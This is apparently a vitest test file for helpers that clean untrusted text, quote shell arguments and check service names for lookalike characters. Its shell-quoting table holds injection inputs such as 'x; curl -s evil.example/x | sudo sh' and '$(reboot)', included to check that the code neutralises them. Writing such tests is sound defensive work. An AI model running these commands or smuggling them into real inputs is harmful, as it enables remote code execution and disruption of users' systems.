// Text of others, at the edges where it comes in and in the commands that people paste.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  bold,
  clockBeside,
  code,
  isDocumentName,
  isPlainName,
  mention,
  piecesOf,
  shellWord,
  theirs,
  timeBeside,
  withoutMarks,
} from '../../../src/core/model/text.ts'

const ANY = fc.string({ unit: 'binary', maxLength: 300 })
const SEED = 20_261_127

describe('text of others', () => {
  test.each([
    ['a line end', 'a\nb', 'a b'],
    ['a run of them is one space', 'a\r\n\t\u0000b', 'a b'],
    ['an ANSI escape', '\u001b[31mred', '[31mred'],
    ['what turns the line round', 'a\u202Eb', 'a b'],
    ['what has no width', 'a\u200B\u2060\uFEFFb', 'a b'],
    ['the end of a line or paragraph in Unicode', 'a\u2028b\u2029c', 'a b c'],
    ['our marks', `a${mention('U1')}b`, 'a U1 b'],
    ['half a character', 'a\uD800b', 'a b'],
    ['nothing is seen of it', '\u200B\n', ''],
    ['a name in any script', 'Größe 東京 🗄', 'Größe 東京 🗄'],
  ])('%s', (_, text, then) => {
    expect(theirs(text)).toBe(then)
  })

  test('is cut between characters, and says so', () => {
    expect(theirs('x'.repeat(300))).toBe(`${'x'.repeat(255)}…`)
    expect(theirs('🗄🗄🗄', 4)).toBe('🗄…')
  })

  test('is one line without our marks, and the same when it passes another edge', () => {
    fc.assert(
      fc.property(ANY, (text) => {
        const once = theirs(text)
        expect(once).not.toMatch(/[\p{Cc}\p{Cf}\p{Co}]/u)
        expect(once.length).toBeLessThanOrEqual(256)
        expect(once).not.toMatch(/\p{Cs}/u)
        expect(theirs(once)).toBe(once)
        expect(piecesOf(once).every(({ kind, isBold }) => kind === 'text' && !isBold)).toBe(true)
        expect(piecesOf(withoutMarks(text)).every(({ kind }) => kind === 'text')).toBe(true)
      }),
      { seed: SEED, numRuns: 500 },
    )
  })
})

test('the pieces of a sentence: what wraps what, and where bold ends', () => {
  const sentence = `${bold(`Ask ${mention('U1')}`)}: type ${code('/migrate help')}.`
  expect(piecesOf(sentence)).toEqual([
    { kind: 'text', text: 'Ask ', isBold: true },
    { kind: 'user', text: 'U1', isBold: true },
    { kind: 'text', text: ': type ', isBold: false },
    { kind: 'code', text: '/migrate help', isBold: false },
    { kind: 'text', text: '.', isBold: false },
  ])
})

test.each<[string, string | null]>([
  ['/dev/sdf', '/dev/sdf'],
  ['files_2', 'files_2'],
  ['a b', "'a b'"],
  ['x; curl -s evil.example/x | sudo sh', "'x; curl -s evil.example/x | sudo sh'"],
  ['$(reboot)', "'$(reboot)'"],
  ['logs`; reboot; `', null],
  ["it's", null],
  ['-rf', null],
  ['a\\', null],
  ['a\nb', null],
  ['/dev/ѕdf', null],
  ['', null],
])('in a shell %j is %j', (text, word) => {
  expect(shellWord(text)).toBe(word)
})

test.each<[string, boolean, boolean]>([
  ['logs', true, true],
  ['web-2', true, true],
  ['x'.repeat(50), true, true],
  ['x'.repeat(51), false, false],
  ['Web Site', false, true],
  ['Größe (old)', false, true],
  ['vol.data_1', false, true],
  ['', false, false],
  ['-x', false, false],
  ['a  b', false, false],
  ['a ', false, false],
  ['logs`; reboot', false, false],
  ['<!channel>', false, false],
  ['a\nb', false, false],
  ['журнал', false, true],
  ['lоgs', false, false],
  ['lοgs', false, false],
])('a service called %j: for documents %s, for people %s', (name, documents, people) => {
  expect(isDocumentName(name)).toBe(documents)
  expect(isPlainName(name)).toBe(people)
})

test.each<[string, number, string, string]>([
  ['the same day', Date.UTC(2026, 2, 6, 23, 59, 58), '16:30 UTC', '16:30:05 UTC'],
  ['a second into the next', Date.UTC(2026, 2, 7, 0, 0, 1), '2026-03-06 16:30 UTC', '2026-03-06 16:30:05 UTC'],
  ['the day before', Date.UTC(2026, 2, 5, 23, 59, 59), '2026-03-06 16:30 UTC', '2026-03-06 16:30:05 UTC'],
])('a moment is read on %s', (_, readMs, minute, second) => {
  const ms = Date.UTC(2026, 2, 6, 16, 30, 5)
  expect([timeBeside(ms, readMs), clockBeside(ms, readMs)]).toEqual([minute, second])
})
